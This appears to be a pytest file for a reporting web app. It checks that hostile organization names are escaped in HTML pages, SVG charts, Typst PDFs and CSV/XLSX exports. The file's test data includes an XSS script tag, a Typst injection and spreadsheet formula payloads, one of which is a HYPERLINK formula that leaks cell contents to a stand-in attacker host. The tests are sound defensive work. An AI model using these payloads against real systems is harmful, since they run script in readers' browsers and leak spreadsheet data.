"""Hostile text in what the report prints (AV-11, GL-12, PP-16): an organization's name set by
its administrator goes into the page, the SVG charts, the Typst PDF and the CSV as text only."""

from __future__ import annotations

import io

from pypdf import PdfReader

from ombud.orgs.models import Organization
from ombud.reports import charts
from tests.cast import sign_in

HOSTILE = '#panic("typst") ] [ <script>alert(1)</script> =cmd|x'


def test_gl_12_a_hostile_organization_name_is_only_text_everywhere(client, people, year):
    Organization.objects.filter(slug="pp").update(name=HOSTILE)
    sign_in(client, people["pp"]["manager"], "en")
    page = client.get("/pp/reports/?year=2026").content.decode()
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;" in page
    pdf = client.get("/pp/reports/annual.pdf?year=2026")
    assert pdf.status_code == 200
    text = " ".join(PdfReader(io.BytesIO(pdf.content)).pages[0].extract_text().split())
    assert '#panic("typst")' in text
    Organization.objects.filter(slug="pp").update(name="=HYPERLINK(\"http://evil\")")
    exported = client.get("/pp/reports/annual.csv?year=2026").content.decode("utf-8-sig")
    assert exported.splitlines()[1].startswith("\"'=HYPERLINK")


def test_pp_16_chart_labels_are_escaped_svg_text():
    chart = charts.shares("<b>title</b>", [('"><script>x</script>', 3)])
    assert "<script>" not in chart.svg and "&lt;script&gt;" in chart.svg
    assert "<b>" not in chart.svg and "style=" not in chart.svg


def test_gl_12_an_organization_name_typed_as_a_formula_stays_text_in_the_workbook(
        client, people, year):
    """The attack review: openpyxl stores any string that begins with "=" as a formula, so an
    administrator's organization name ran on the machines of those who read the reports."""
    from openpyxl import load_workbook

    Organization.objects.filter(slug="pp").update(
        name='=HYPERLINK("http://evil.example/?x="&A1,"x")\x01')
    sign_in(client, people["pp"]["manager"], "en")
    response = client.get("/pp/reports/annual.xlsx?year=2026")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cell = book[book.sheetnames[0]]["A2"]
    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK")


def test_pp_16_a_month_written_in_other_digits_is_no_month_and_no_error(client, people, year):
    sign_in(client, people["pp"]["auditor"], "en")
    for value in ("\u00b2", "\u0663\u0663\u0663", "99999999999999999999"):
        response = client.get(f"/pp/reports/cases/?year=2026&figure=month&value={value}")
        assert response.status_code in (200, 400), value


def test_pp_16_the_january_mail_goes_to_no_manager_who_left(people, organizations):
    from datetime import date

    from ombud.mail.models import OutboxMessage
    from ombud.reports.tasks import mail_annual_reports

    left, staying = people["pp"]["manager"], people["gl"]["manager"]
    left.email, left.is_active = "former@example.org", False
    left.save()
    staying.email = "leder@glode.example"
    staying.save()
    assert mail_annual_reports(date(2027, 1, 2)) == 1
    assert list(OutboxMessage.objects.values_list("to", flat=True)) == ["leder@glode.example"]
